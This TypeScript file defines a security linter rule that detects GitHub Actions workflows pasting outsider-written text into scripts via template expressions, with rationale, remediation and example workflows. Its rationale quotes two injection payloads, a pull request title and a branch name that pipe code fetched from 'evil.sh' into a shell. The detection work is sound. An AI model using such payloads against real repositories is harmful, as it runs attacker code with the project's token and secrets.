import type { Node } from 'yaml';
import { isAttackerControlledContext } from '../../model/actions-contexts.js';
import { defineRule } from '../rule.js';
import { expressionsOf, field, isPrivileged, maintainerTriggersOnly, usesAction, workflowsOf, type Workflow, type WorkflowJob } from './workflow-model.js';

interface Sink {
  readonly node: Node;
  readonly what: string;
}

/** Where an expression's value becomes code: `run:` scripts and `actions/github-script`'s `script:`. */
function sinksOf(workflow: Workflow, job: WorkflowJob): Sink[] {
  return job.steps.flatMap((step) => {
    const sinks: Sink[] = [];
    if (step.run) sinks.push({ node: step.run, what: `step ${step.index + 1} run script` });
    if (usesAction(step.uses, 'actions/github-script')) {
      const script = field(workflow.document, step.with, 'script');
      if (script) sinks.push({ node: script, what: `step ${step.index + 1} github-script` });
    }
    return sinks;
  });
}

export default defineRule({
  id: 'workflow-template-injection',
  layer: 'repository',
  severity: 'high',
  objectKinds: [],
  summary: 'A workflow pastes text an outsider chooses (a PR title, a comment, a branch name) into a script with `${{ }}`.',
  rationale:
    'GitHub expands `${{ … }}` into the script before the shell or JavaScript runs it. A pull request titled ' +
    '`x"; curl evil.sh | sh; echo "` or a branch named `$(curl${IFS}evil.sh|sh)` becomes code, run with the job\'s ' +
    'token and secrets. In workflows triggered by issues, comments, `pull_request_target` or `workflow_run`, that ' +
    'token can write to the repository and the secrets are the repository\'s own: an outsider with a GitHub account ' +
    'gets both. Only contexts outsiders write are reported (titles, bodies, comments, commit messages, author names ' +
    'and e-mails, fork branch names, `toJSON(github.event)`); numbers, SHAs, logins and values only compared ' +
    '(`contains(…)`, `==`) are not. Workflows triggered only by `pull_request` run fork code without secrets anyway: ' +
    'reported at medium. Workflows only maintainers start (`release`, `workflow_dispatch`, `schedule`, `create`…) ' +
    'are not reported: their event holds no outsider text.',
  remediation:
    'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.pull_request.title }}` ' +
    'then `echo "$TITLE"`. In `actions/github-script`, read `context.payload` instead of interpolating.',
  references: [
    'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
    'https://securitylab.github.com/resources/github-actions-untrusted-input/',
    'https://docs.zizmor.sh/audits/#template-injection',
  ],
  messages: {
    injected: '{context} is pasted into the {where} of {job}: whoever writes it ({who}) writes code that runs with the job\'s token and secrets.',
    sandboxed: '{context} is pasted into the {where} of {job}: whoever writes it ({who}) writes code that runs in this job (triggered by pull requests only: no secrets for forks, but same-repository branches get them).',
  },
  examples: {
    bad: [{
      file: '.github/workflows/triage.yml',
      code: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.issue.title }}" # expect: workflow-template-injection\n',
    }],
    good: [{
      file: '.github/workflows/triage.yml',
      code: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "$TITLE" "${{ github.event.issue.number }}"\n      - if: contains(github.event.issue.title, \'bug\')\n        run: echo "${{ contains(github.event.issue.body, \'crash\') }}"\n',
    }],
  },
  check(context) {
    for (const workflow of workflowsOf(context.workspace)) {
      // `toJSON(github.event)` of a release holds what maintainers wrote
      if (maintainerTriggersOnly(workflow)) continue;
      const severity = workflow.isAction || isPrivileged(workflow) ? 'high' : 'medium';
      for (const job of workflow.jobs) {
        for (const sink of sinksOf(workflow, job)) {
          for (const expression of expressionsOf(workflow.file, sink.node)) {
            for (const reference of expression.references) {
              if (!reference.reachesValue || !isAttackerControlledContext(reference.path)) continue;
              const start = expression.bodyStart + reference.start;
              context.report({
                messageId: severity === 'high' ? 'injected' : 'sandboxed',
                at: { path: workflow.file.path, start, end: expression.bodyStart + reference.end },
                data: { context: reference.path, where: sink.what, job: workflow.isAction ? 'the composite action' : `job ${job.id}`, who: writerOf(reference.path) },
                subject: `${job.id} ${reference.path}`,
                severity,
                properties: { context: reference.path, job: job.id },
              });
            }
          }
        }
      }
    }
  },
});

function writerOf(path: string): string {
  if (/head_ref|head\.(ref|label)|head_branch/.test(path)) return 'the author of a pull request, naming their branch';
  if (/comment|review/.test(path)) return 'anyone who can comment';
  if (/issue|discussion/.test(path)) return 'anyone who can open an issue or discussion';
  if (/commit|author|committer/.test(path)) return 'the author of a commit';
  if (/pull_request/.test(path)) return 'the author of a pull request';
  return 'whoever triggered the event';
}
